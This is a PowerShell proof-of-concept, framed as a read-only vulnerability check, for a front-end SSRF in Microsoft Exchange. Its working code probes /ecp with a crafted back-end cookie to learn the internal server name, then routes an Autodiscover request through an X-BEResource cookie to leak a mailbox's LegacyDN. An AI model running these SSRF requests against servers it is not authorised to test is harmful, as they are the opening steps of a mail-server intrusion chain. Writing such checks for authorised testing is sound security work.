<#
.SYNOPSIS
    Proof of concept for EMB-2021-0001 (embargoed, benign).
.DESCRIPTION
    Sends the SSRF probe and the Autodiscover request to a test Exchange
    server and reports whether the front end forwards them to the back
    end the way an unpatched server does.  Read-only.
#>
param(
    [Parameter(Mandatory = $true)][string]$Target,
    [Parameter(Mandatory = $true)][string]$Email,
    [int]$TimeoutSec = 15,
    [switch]$SkipCertificateCheck
)

$UserAgent = "Mozilla/5.0 (compatible; emb-check/1.0)"
$BackendCookie = "X-AnonResource-Backend"
$ResourceCookie = "X-BEResource"
$AutodiscoverPath = "/autodiscover/autodiscover.xml"

function Invoke-Step {
    param([string]$Path, [string]$Cookie, [string]$Body = $null,
        [hashtable]$Headers = @{})
    $uri = "https://$Target$Path"
    $all = @{ "User-Agent" = $UserAgent; "Cookie" = $Cookie }
    foreach ($key in $Headers.Keys) { $all[$key] = $Headers[$key] }
    $params = @{
        Uri = $uri
        Headers = $all
        TimeoutSec = $TimeoutSec
        UseBasicParsing = $true
        ErrorAction = "Stop"
    }
    if ($SkipCertificateCheck) { $params["SkipCertificateCheck"] = $true }
    if ($Body) {
        $params["Method"] = "POST"
        $params["Body"] = $Body
    }
    try {
        return Invoke-WebRequest @params
    } catch [System.Net.WebException] {
        return $_.Exception.Response
    }
}

function Get-Backend {
    $resp = Invoke-Step -Path "/ecp/y.js" -Cookie "$BackendCookie=localhost/ecp/default.flt?~3"
    $server = $resp.Headers["X-FEServer"]
    if (-not $server) { $server = $resp.Headers["X-CalculatedBETarget"] }
    if (-not $server) { throw "no back end name in the probe answer" }
    return ($server -split "\.")[0]
}

function Get-LegacyDN([string]$Backend) {
    $body = @"
<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006">
    <Request>
      <EMailAddress>$Email</EMailAddress>
      <AcceptableResponseSchema>http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a</AcceptableResponseSchema>
    </Request>
</Autodiscover>
"@
    $cookie = "$ResourceCookie=$Backend/autodiscover/autodiscover.xml?a=~1942062522;"
    $resp = Invoke-Step -Path $AutodiscoverPath -Cookie $cookie -Body $body -Headers @{ "Content-Type" = "text/xml" }
    if ($resp.Content -match "<LegacyDN>(.*?)</LegacyDN>") {
        return $Matches[1]
    }
    throw "autodiscover gave no legacy DN"
}

try {
    $backend = Get-Backend
    Write-Output ("backend    {0}" -f $backend)
    $dn = Get-LegacyDN -Backend $backend
    Write-Output ("legacy_dn  {0}" -f $dn)
    Write-Output "VULNERABLE"
    exit 0
} catch {
    Write-Error ("not vulnerable: {0}" -f $_.Exception.Message)
    exit 1
}
